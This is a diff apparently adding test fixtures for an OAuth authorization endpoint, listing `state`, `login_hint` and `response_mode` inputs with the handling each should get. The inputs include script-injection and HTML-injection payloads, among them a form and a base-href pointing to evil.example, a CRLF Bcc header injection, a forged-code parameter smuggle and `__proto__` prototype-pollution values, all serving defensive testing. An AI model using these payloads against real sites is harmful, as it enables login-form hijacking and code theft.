@@ -490,6 +490,61 @@ export const HOSTILE_REPETITIONS: readonly { readonly input: string; readonly wh
   { input: repeated('\u0301', 'x'), what: 'combining marks' },
 ];
 
+/** Values of `state`, which the page that posts an answer repeats. The shop gets each as it sent it. */
+export const POSTED_STATES: InputKind = {
+  understood: [
+    '"><script>alert(1)</script>',
+    '"></form><form action="https://evil.example/"><input name="',
+    '</title></head><base href="https://evil.example/">',
+    "' autofocus onfocus=alert(1) x='",
+    '&quot;&lt;&#34;&amp',
+    '?lit$1234$<!--?lit$-->',
+    '{vendor} {{state}} $& $1',
+    '\u202egnp.elpmaxe\u2066 \u2028',
+    'a+b %2B&code=forged;iss=x',
+  ].map((state) => ({ input: state, value: state, what: 'markup, or what a form encodes' })),
+  refused: [],
+};
+
+/** Values of `login_hint`, and what the field for the address begins with. */
+export const LOGIN_HINTS: InputKind = {
+  understood: [
+    { input: 'ada@example.com', value: 'ada@example.com', what: 'an address' },
+    { input: ' Bob@Example.com ', value: 'Bob@Example.com', what: 'pasted, with spaces' },
+    { input: 'greta@b\u00fccher.example', value: 'greta@xn--bcher-kva.example', what: 'a Unicode domain' },
+    { input: "o'hara&co@example.ie", value: "o'hara&co@example.ie", what: 'what markup would have to escape' },
+  ],
+  refused: [
+    { input: '+31612345678', refusal: 'none', what: 'a phone number' },
+    { input: 'Call +1 555 0100 now', refusal: 'none', what: 'words that are not ours' },
+    { input: '"><script>alert(1)</script>@example.com', refusal: 'none', what: 'markup' },
+    { input: 'a@example.com\r\nBcc: b@example.com', refusal: 'none', what: 'two lines' },
+    { input: `${'a'.repeat(300)}@example.com`, refusal: 'none', what: 'longer than an address can be' },
+    { input: 'a@\u202eexample.com', refusal: 'none', what: 'a text that runs backwards' },
+  ],
+};
+
+/** Response modes, and which of ours each is. */
+export const RESPONSE_MODES_ASKED: InputKind = {
+  understood: [
+    { input: 'query', value: 'query', what: 'the default of a code' },
+    { input: 'fragment', value: 'fragment', what: 'a code for a page' },
+    { input: 'form_post', value: 'form_post', what: 'a form' },
+  ],
+  refused: [
+    'FORM_POST',
+    'form_post ',
+    'form_post.jwt',
+    'jwt',
+    'query.jwt',
+    'web_message.jwt',
+    'form_post query',
+    'constructor',
+    '__proto__',
+    'okta_post_message',
+  ].map((mode) => ({ input: mode, refusal: 'unsupported_response_mode', what: 'none that we have' })),
+};
+
 type Headers = Readonly<Record<string, string>>;
 
 /**
